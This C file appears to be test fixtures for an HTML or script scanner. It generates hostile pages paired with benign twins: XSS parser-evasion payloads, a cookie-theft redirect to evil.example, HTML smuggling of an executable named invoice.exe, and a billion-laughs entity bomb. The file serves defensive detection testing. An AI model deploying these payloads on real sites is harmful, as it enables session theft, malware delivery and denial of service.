/*
 * pages.c - pages as a browser reads them, each with its benign twin
 * (issue: see code where browsers, loaders and interpreters see it).
 *
 * Each hostile page hides script from a reader that is stricter or
 * looser than the WHATWG tokenizer: a comment that a browser closes
 * early, a reference the URL parser decodes, an encoding that moves a
 * quote, a page inside an attribute.  Each twin changes the one thing
 * that makes the script live, and must stay quiet.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "samples.h"

#define PAGE(fn, s) \
	void fn(struct sbuf *b) { sb_str(b, s); }

/* Comments: "<!-->" and "--!>" end one; "--! >" does not. */
PAGE(p_comment_abrupt, "<!DOCTYPE html>\n<p>Hello</p><!--><script>alert(document.cookie)</script>-->\n")
PAGE(p_comment_abrupt_twin, "<!DOCTYPE html>\n<p>Hello</p><!-- -><script>alert(document.cookie)</script> -->\n")
PAGE(p_comment_bang, "<!DOCTYPE html>\n<!-- note --!><img src=x onerror=alert(1)> -->\n")
PAGE(p_comment_bang_twin, "<!DOCTYPE html>\n<!-- note --! ><img src=x onerror=alert(1)> -->\n")

/* References the URL parser sees through: &Tab; is a tab, which it drops. */
PAGE(p_ref_tab, "<!DOCTYPE html>\n<a href=\"jav&Tab;ascript&colon;alert(1)\">open</a>\n")
PAGE(p_ref_tab_twin, "<!DOCTYPE html>\n<a href=\"jav&amp;ascript&colon;alert(1)\">open</a>\n")

/* An <iframe srcdoc> is a page of its own. */
PAGE(p_srcdoc, "<!DOCTYPE html>\n<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>\n")
PAGE(p_srcdoc_twin, "<!DOCTYPE html>\n<iframe srcdoc=\"&lt;p&gt;Terms and conditions&lt;/p&gt;\"></iframe>\n")

/* <noscript> is raw text when scripting is on: the "attribute" ends at </noscript>. */
PAGE(p_noscript, "<!DOCTYPE html>\n<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>\n")
PAGE(p_noscript_twin, "<!DOCTYPE html>\n<noscript><p title=\"enable scripts\">This page needs JavaScript.</p></noscript>\n")
/* <title> is RCDATA: a script tag inside it is text; after it, a script. */
PAGE(p_title_text, "<!DOCTYPE html>\n<title>How <script>alert(1)</script> works</title><p>Tutorial</p>\n")
PAGE(p_title_after, "<!DOCTYPE html>\n<title>How scripts work</title><script>alert(1)</script>\n")
/* In SVG, <img> breaks out to HTML; <style> in HTML is raw text. */
PAGE(p_svg_breakout, "<!DOCTYPE html>\n<svg><style><img src=x onerror=alert(1)></style></svg>\n")
PAGE(p_style_text, "<!DOCTYPE html>\n<style><img src=x onerror=alert(1)></style>\n")

/* A page that does not start with a tag is still a page to a browser. */
PAGE(p_text_first, "Dear customer,\n\nplease find your invoice below.\n<img src=x onerror=\"location='https://evil.example/'+document.cookie\">\n")
PAGE(p_text_first_twin, "Dear customer,\n\nplease find your invoice below.\n<p>Total: 42 EUR</p>\n")
PAGE(p_text_c, "#include <stdio.h>\nint main(void) { return 1 < 2 && 3 > 2; }\n")

/* Sinks beyond <script>. */
PAGE(p_refresh, "<!DOCTYPE html>\n<meta http-equiv=\"Refresh\" content=\"0; URL='javascript:alert(1)'\">\n")
PAGE(p_refresh_twin, "<!DOCTYPE html>\n<meta http-equiv=\"Refresh\" content=\"0; URL='https://example.org/new'\">\n")
PAGE(p_object_swf, "<!DOCTYPE html>\n<object data=\"movie.swf\" width=400 height=300></object>\n")
PAGE(p_object_pdf, "<!DOCTYPE html>\n<object data=\"report.pdf\" type=\"application/pdf\" width=400 height=300></object>\n")
PAGE(p_iframe_data, "<!DOCTYPE html>\n<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>\n")
PAGE(p_iframe_https, "<!DOCTYPE html>\n<iframe src=\"https://www.example.org/embed/video\"></iframe>\n")
PAGE(p_form_action, "<!DOCTYPE html>\n<form><button formaction=\"  javascript:alert(1)\">Send</button></form>\n")
PAGE(p_form_twin, "<!DOCTYPE html>\n<form action=\"/send\" method=\"post\"><button>Send</button></form>\n")
PAGE(p_svg_animate,
     "<svg xmlns=\"http://www.w3.org/2000/svg\"><a><animate attributeName=\"href\" values=\"javascript:alert(1)\"/>"
     "<text x=\"20\" y=\"20\">Click</text></a></svg>\n")
PAGE(p_svg_animate_twin,
     "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"10\" height=\"10\"><animate attributeName=\"width\" "
     "values=\"10;20;10\" dur=\"2s\"/></rect></svg>\n")
PAGE(p_svg_foreign,
     "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"100\" height=\"100\">"
     "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe></foreignObject></svg>\n")
PAGE(p_svg_foreign_twin,
     "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"100\" height=\"100\">"
     "<p xmlns=\"http://www.w3.org/1999/xhtml\">A caption</p></foreignObject></svg>\n")

/* A data block does not run; a script of a JavaScript type does. */
PAGE(p_ldjson, "<!DOCTYPE html>\n<html><head><script type=\"application/ld+json\">{\"@type\": \"Article\", "
	       "\"headline\": \"Hi\"}</script></head><body><p>Article</p></body></html>\n")
PAGE(p_jstype, "<!DOCTYPE html>\n<html><head><script type=\"text/javascript; charset=utf-8\">track()</script>"
	       "</head><body><p>Article</p></body></html>\n")

/* Real-world twins: an article with analytics is script (correctly); a static report is not. */
PAGE(p_article,
     "<!DOCTYPE html>\n<html lang=\"en\"><head><meta charset=\"UTF-8\"><title>Lighthouse - Encyclopedia</title>\n"
     "<link rel=\"stylesheet\" href=\"/static/site.css\">\n"
     "<script>(function(w,d){w.dataLayer=w.dataLayer||[];w.dataLayer.push({'event':'pageview'});"
     "var s=d.createElement('script');s.async=true;s.src='https://stats.example.org/a.js';"
     "d.head.appendChild(s);})(window,document);</script>\n</head><body>\n"
     "<h1 id=\"firstHeading\">Lighthouse</h1>\n<p>A <b>lighthouse</b> is a tower, building, or other type of "
     "physical structure designed to emit light from a system of lamps and lenses.</p>\n"
     "<table class=\"infobox\"><tr><th>Type</th><td>Navigational aid</td></tr></table>\n"
     "<p>See also <a href=\"/wiki/Lightvessel\" title=\"Lightvessel\">lightvessel</a>.</p>\n</body></html>\n")
PAGE(p_report,
     "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Coverage report</title>\n"
     "<style>td.low{color:#a00} td.high{color:#0a0}</style></head><body>\n<h1>Coverage</h1>\n"
     "<table><tr><th>File</th><th>Lines</th></tr>\n<tr><td><a href=\"src/main.c.html\">src/main.c</a></td>"
     "<td class=\"high\">94.1%</td></tr>\n<tr><td><a href=\"src/util.c.html\">src/util.c</a></td>"
     "<td class=\"low\">41.0%</td></tr>\n</table>\n<p>Generated by lcov &amp; genhtml.</p>\n</body></html>\n")

/* UTF-16: with a BOM, and without one when every other byte is zero. */
static void utf16(struct sbuf *b, const char *s, bool bom, bool be)
{
	if (bom)
		sb_str(b, be ? "\xfe\xff" : "\xff\xfe");
	for (; *s; s++) {
		if (be)
			sb_u8(b, 0);
		sb_u8(b, (uint8_t)*s);
		if (!be)
			sb_u8(b, 0);
	}
}

static const char u16_hostile[] = "<html><body><p>Invoice</p><script>alert(document.domain)</script></body></html>\n";
static const char u16_benign[] = "<html><body><p>Invoice</p><p>Total: 42 EUR</p></body></html>\n";

void p_utf16_bom(struct sbuf *b) { utf16(b, u16_hostile, true, false); }
void p_utf16_bom_twin(struct sbuf *b) { utf16(b, u16_benign, true, false); }
void p_utf16be_nobom(struct sbuf *b) { utf16(b, u16_hostile, false, true); }
void p_utf16be_nobom_twin(struct sbuf *b) { utf16(b, u16_benign, false, true); }

/*
 * ISO-2022-JP: ESC $ B switches to two-byte characters, so the '"' after it
 * is half of one and the title does not end there; ESC ( B switches back,
 * and the next '"' ends the title: onmouseover is an attribute.  Read as
 * bytes, the title ends at the first '"' and the handler is text.
 */
PAGE(p_iso2022jp, "<!DOCTYPE html>\n<meta charset=\"iso-2022-jp\">\n"
		  "<p title=\"\x1b$B\">\x1b(B\" onmouseover=\"alert(1)\">Hello</p>\n")
PAGE(p_iso2022jp_twin, "<!DOCTYPE html>\n<meta charset=\"iso-2022-jp\">\n"
		       "<p title=\"$B\">(B\" onmouseover=\"alert(1)\">Hello</p>\n")

/* Smuggling: the page carries a Windows program as base64 and hands it over. */
static void base64(struct sbuf *out, const uint8_t *p, size_t n)
{
	static const char a[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	for (size_t i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)p[i] << 16 | (i + 1 < n ? (uint32_t)p[i + 1] << 8 : 0) | (i + 2 < n ? p[i + 2] : 0);
		sb_u8(out, (uint8_t)a[v >> 18 & 63]);
		sb_u8(out, (uint8_t)a[v >> 12 & 63]);
		sb_u8(out, i + 1 < n ? (uint8_t)a[v >> 6 & 63] : '=');
		sb_u8(out, i + 2 < n ? (uint8_t)a[v & 63] : '=');
	}
}

static void pe_b64(struct sbuf *out)
{
	struct sbuf pe = {0};
	sample_pe(&pe);
	sb_zero(&pe, 2048);	/* a payload of some size: a "large literal" */
	base64(out, pe.p, pe.len);
	sb_free(&pe);
}

void p_smuggle_blob(struct sbuf *b)
{
	sb_str(b, "<!DOCTYPE html>\n<html><body><p>Your document is downloading...</p>\n<script>\n"
		  "var d = atob('");
	pe_b64(b);
	sb_str(b, "');\nvar u = new Uint8Array(d.length);\nfor (var i = 0; i < d.length; i++) u[i] = d.charCodeAt(i);\n"
		  "var f = new Blob([u], {type: 'application/octet-stream'});\n"
		  "var a = document.createElement('a');\na.href = URL.createObjectURL(f);\na.download = 'invoice.exe';\n"
		  "document.body.appendChild(a);\na.click();\n</script></body></html>\n");
}

/* The twin: a page with script that builds no file. */
PAGE(p_smuggle_twin, "<!DOCTYPE html>\n<html><body><p id=t>Loading...</p>\n<script>\n"
		     "document.getElementById('t').textContent = 'Welcome back';\n</script></body></html>\n")

/* No script at all: <a download> of a data: URL carries the file. */
void p_data_download(struct sbuf *b)
{
	sb_str(b, "<!DOCTYPE html>\n<html><body><p>Your invoice:</p>\n"
		  "<a download=\"invoice.exe\" href=\"data:application/octet-stream;base64,");
	pe_b64(b);
	sb_str(b, "\">Download</a>\n</body></html>\n");
}

void p_data_download_twin(struct sbuf *b)
{
	sb_str(b, "<!DOCTYPE html>\n<html><body><p>Your invoice:</p>\n"
		  "<a download=\"invoice.pdf\" href=\"/invoices/2026-11.pdf\">Download</a>\n</body></html>\n");
}

/* Markup inside an archive, starting with text: searched all the same. */
static void zip_page(struct sbuf *b, void (*page)(struct sbuf *))
{
	struct sbuf p = {0};
	page(&p);
	struct zspec z[] = {{.name = "docs/readme.txt", .data = "Read the intro.\n", .len = 16},
			    {.name = "docs/intro.html", .data = p.p, .len = p.len, .deflate = 1}};
	zip_write(b, z, 2);
	sb_free(&p);
}

void p_zip_page(struct sbuf *b) { zip_page(b, p_text_first); }
void p_zip_page_twin(struct sbuf *b) { zip_page(b, p_text_first_twin); }

/* SVG read as XML: internal DTD entities expand as the browser's XML parser expands them. */
PAGE(p_svg_entity, "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n<!ENTITY x \"<script>alert(document.domain)</script>\">\n]>\n"
		   "<svg xmlns=\"http://www.w3.org/2000/svg\">&x;</svg>\n")
PAGE(p_svg_entity_twin, "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n<!ENTITY x \"Example Ltd\">\n]>\n"
			"<svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"5\" y=\"15\">&x;</text></svg>\n")
PAGE(p_svg_entity_attr, "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n<!ENTITY u \"javascript:alert(1)\">\n]>\n"
			"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:l=\"http://www.w3.org/1999/xlink\">"
			"<a l:href=\"&u;\"><text y=\"15\">Open</text></a></svg>\n")

/* Billion laughs: ten entities of ten references each, 10^9 "lol"s. */
static void laughs(struct sbuf *b, int levels)
{
	sb_str(b, "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n<!ENTITY lol0 \"lol\">\n");
	for (int i = 1; i <= levels; i++) {
		char line[256];
		int k = snprintf(line, sizeof line, "<!ENTITY lol%d \"", i);
		for (int j = 0; j < 10; j++)
			k += snprintf(line + k, sizeof line - (size_t)k, "&lol%d;", i - 1);
		snprintf(line + k, sizeof line - (size_t)k, "\">\n");
		sb_str(b, line);
	}
	char tail[128];
	snprintf(tail, sizeof tail, "]>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><text>&lol%d;</text></svg>\n", levels);
	sb_str(b, tail);
}

void p_svg_laughs(struct sbuf *b) { laughs(b, 9); }
void p_svg_laughs_twin(struct sbuf *b) { laughs(b, 2); }

/* What the reader cannot keep is not judged clean: 600 attributes, the last a handler. */
static void many_attrs(struct sbuf *b, int n, bool handler)
{
	sb_str(b, "<!DOCTYPE html>\n<p");
	for (int i = 0; i < n; i++) {
		char a[32];
		snprintf(a, sizeof a, " data-x%d=\"%d\"", i, i);
		sb_str(b, a);
	}
	if (handler)
		sb_str(b, " onmouseover=\"alert(1)\"");
	sb_str(b, ">Hello</p>\n");
}
void p_many_attrs(struct sbuf *b) { many_attrs(b, 600, true); }
void p_many_attrs_twin(struct sbuf *b) { many_attrs(b, 100, false); }

/* A srcdoc past the reader's 1 MiB, its script at the end; the twin is a 2 MiB inline image. */
void p_big_srcdoc(struct sbuf *b)
{
	sb_str(b, "<!DOCTYPE html>\n<iframe srcdoc=\"&lt;p&gt;");
	for (int i = 0; i < (2 << 20) / 64; i++)
		sb_str(b, "padding padding padding padding padding padding padding paddin\n");
	sb_str(b, "&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>\n");
}
void p_big_image(struct sbuf *b)
{
	sb_str(b, "<!DOCTYPE html>\n<img alt=\"chart\" src=\"data:image/png;base64,");
	for (int i = 0; i < (2 << 20) / 64; i++)
		sb_str(b, "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
	sb_str(b, "\">\n");
}

/* The payload split into joined literals, the usual way to hide it: read as one. */
void p_smuggle_split(struct sbuf *b)
{
	struct sbuf p = {0};
	pe_b64(&p);
	sb_str(b, "<!DOCTYPE html>\n<html><body><script>\nvar parts = [\n");
	for (size_t i = 0; i < p.len; i += 76) {
		sb_str(b, "  \"");
		sb_put(b, p.p + i, p.len - i < 76 ? p.len - i : 76);
		sb_str(b, i + 76 < p.len ? "\",\n" : "\"\n");
	}
	sb_str(b, "];\nvar bin = atob(parts.join(''));\nvar a = document.createElement('a');\n"
		  "a.href = URL.createObjectURL(new Blob([bin]));\na.download = 'update.exe';\na.click();\n</script></body></html>\n");
	sb_free(&p);
}
